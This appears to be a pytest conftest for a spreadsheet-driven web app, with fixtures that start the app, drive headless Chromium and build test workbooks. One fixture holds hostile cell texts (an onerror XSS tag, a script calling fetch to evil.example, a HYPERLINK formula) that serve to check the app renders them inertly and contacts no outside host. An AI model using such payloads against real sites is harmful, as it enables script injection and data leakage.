"""A running app and a real browser for the tests of the pages."""

import io
import os
import shutil
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from time import monotonic, sleep
from urllib.parse import urlsplit

import pytest
from openpyxl import Workbook
from playwright.sync_api import Browser, Page, Playwright, sync_playwright

FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


@dataclass(frozen=True)
class Server:
    """The app, running on ``address``."""

    address: str
    process: subprocess.Popen[bytes]


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _answers(address: str, process: subprocess.Popen[bytes]) -> bool:
    until = monotonic() + 60
    while monotonic() < until and process.poll() is None:
        try:
            with urllib.request.urlopen(f"{address}/_stcore/health", timeout=2) as answer:
                return answer.status == 200
        except OSError:
            sleep(0.1)
    return False


@pytest.fixture(scope="session")
def serve(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[..., Server]]:
    """Start the app, `serve()` or `serve(file)`; each server is ended with the test session."""
    running: list[subprocess.Popen[bytes]] = []

    def start(file: Path | None = None) -> Server:
        port = _free_port()
        home = tmp_path_factory.mktemp("home")
        command = [sys.executable, "-m", "chainmap.ui.serve", *([str(file)] if file else [])]
        with (home / "log.txt").open("wb") as log:
            process = subprocess.Popen(
                [*command, "--port", str(port)],
                cwd=home,
                env={**os.environ, "HOME": str(home)},
                stdout=log,
                stderr=log,
            )
        running.append(process)
        address = f"http://127.0.0.1:{port}"
        assert _answers(address, process), (home / "log.txt").read_text()
        return Server(address, process)

    yield start
    for process in running:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@pytest.fixture(scope="session")
def served(
    serve: Callable[..., Server], tmp_path_factory: pytest.TempPathFactory
) -> Callable[..., Server]:
    """The app started on a file with these bytes; the tests that start it on the same share it."""

    @cache
    def on(content: bytes) -> Server:
        file = tmp_path_factory.mktemp("served") / "five people.xlsx"
        file.write_bytes(content)
        return serve(file)

    return on


@pytest.fixture(scope="session")
def server(serve: Callable[..., Server]) -> Server:
    """One running app, shared by the tests; each browser page is a session of its own."""
    return serve()


@pytest.fixture(scope="session")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as running:
        yield running


@pytest.fixture(scope="session")
def browser(playwright: Playwright) -> Iterator[Browser]:
    """Chromium, from CHROMIUM, the usual names on the path, or Playwright's own."""
    names = ("chromium", "chromium-browser", "google-chrome")
    found = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
    running = playwright.chromium.launch(executable_path=found, args=FLAGS)
    yield running
    running.close()


@dataclass
class Watched:
    """A browser page and what it asked for and complained about."""

    page: Page
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def strangers(self, address: str) -> list[str]:
        """Requests that did not go to ``address``."""
        own = urlsplit(address).netloc
        inside = ("data", "blob", "about")
        parts = [(url, urlsplit(url)) for url in self.requests]
        return [url for url, it in parts if it.scheme not in inside and it.netloc != own]


@pytest.fixture
def watch(browser: Browser) -> Iterator[Callable[..., Watched]]:
    """Open a new profile: `watch()` or `watch(color_scheme="dark")`; closed after the test."""
    contexts = []

    def open_page(**options: object) -> Watched:
        context = browser.new_context(**{"viewport": {"width": 1280, "height": 720}, **options})
        contexts.append(context)
        seen = Watched(context.new_page())
        seen.page.on("request", lambda request: seen.requests.append(request.url))
        seen.page.on("websocket", lambda socket: seen.requests.append(socket.url))
        seen.page.on(
            "console",
            lambda line: seen.complaints.append(line.text) if line.type == "error" else None,
        )
        seen.page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        return seen

    yield open_page
    for context in contexts:
        context.close()


def _workbook(sheets: dict[str, list[dict[str, object]]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        sheet.append(list(rows[0]))
        for row in rows:
            sheet.append(list(row.values()))
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _company(ana: str, price_list: str, quote: str) -> dict[str, list[dict[str, object]]]:
    people = [
        ("E1", ana, "Product data"),
        ("E2", "Ben Okafor", "Order desk"),
        ("E3", "Cleo Maas", ""),
    ]
    links = [
        ("E1", "E2", price_list, "customer", "valid prices", None, 8, 20, 9.0),
        ("E2", "M1", quote, "both", "a price to decide on", "right and complete", 16, 40, 1.0),
        ("E1", "E3", "margin report", "supplier", None, None, None, 2, 1.0),
    ]
    moments = [("M1", "A quote", "inquiry", 100, "E2"), ("M2", "The bill", "billing", 50, None)]
    return {
        "Employees": [
            {"Employee ID": id, "Name": name, "Team": team or None, "Hours per month": 120}
            for id, name, team in people
        ],
        "Dependencies": [dict(zip(LINK_HEADINGS, row, strict=True)) for row in links],
        "Moments of truth": [dict(zip(MOMENT_HEADINGS, row, strict=True)) for row in moments],
    }


LINK_HEADINGS = (
    "Supplier",
    "Customer",
    "Deliverable",
    "Stated by",
    "Need",
    "Standard",
    "Turnaround",
    "Volume per month",
    "Hours each",
)
MOMENT_HEADINGS = ("Moment ID", "Name", "Process", "Contacts per month", "Owner")


@pytest.fixture(scope="session")
def company() -> bytes:
    """A workbook: Ana -> Ben -> quote (M1), Ana -> Cleo; nobody supplies the bill (M2).

    Ana promises more hours than she has; Cleo has stated nothing and has no team.
    """
    return _workbook(_company("Ana Ruiz", "price list", "quote"))


@pytest.fixture(scope="session")
def hostile_texts() -> tuple[str, str, str]:
    """Cells that would fetch, run or fake something where they were rendered as markdown."""
    return (
        "![a](http://evil.example/a.png) <img src=x onerror=alert(1)> Ana",
        "[click](http://evil.example) :material/bug_report: :red[*list*] $x^2$ https://evil.example",
        "=HYPERLINK(\"http://evil.example\") </script><script>fetch('//evil.example')</script>",
    )


@pytest.fixture(scope="session")
def hostile_company(hostile_texts: tuple[str, str, str]) -> bytes:
    """The same company with hostile texts for a name, a deliverable of each link."""
    return _workbook(_company(*hostile_texts))


@pytest.fixture(scope="session")
def spoilt_company() -> bytes:
    """The same company with a link to an employee who does not exist."""
    sheets = _company("Ana Ruiz", "price list", "quote")
    sheets["Dependencies"][2]["Customer"] = "E99"
    return _workbook(sheets)


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """A test in the real browser may try twice: on a busy machine a click can come too early."""
    for item in items:
        if "_browser" in item.path.name:
            item.add_marker(pytest.mark.flaky(reruns=1))
